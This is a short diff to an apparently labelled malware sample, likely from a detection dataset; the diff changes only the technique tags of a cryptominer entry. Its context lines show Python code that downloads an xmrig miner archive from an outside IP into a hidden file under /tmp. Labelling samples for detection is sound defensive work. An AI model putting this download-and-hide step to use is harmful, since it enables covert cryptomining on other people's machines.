@@ -1,4 +1,4 @@
-# label: malicious family=miner techniques=T1496,T1105,T1059.004 lines=3-4,6-8
+# label: malicious family=miner techniques=T1105,T1496,T1564.001 lines=3-4,6-8
 import os, subprocess, urllib.request, tarfile
 url = "http://203.0.113.71/xmrig-6.21.0-linux-static-x64.tar.gz"
 urllib.request.urlretrieve(url, "/tmp/.x.tgz")
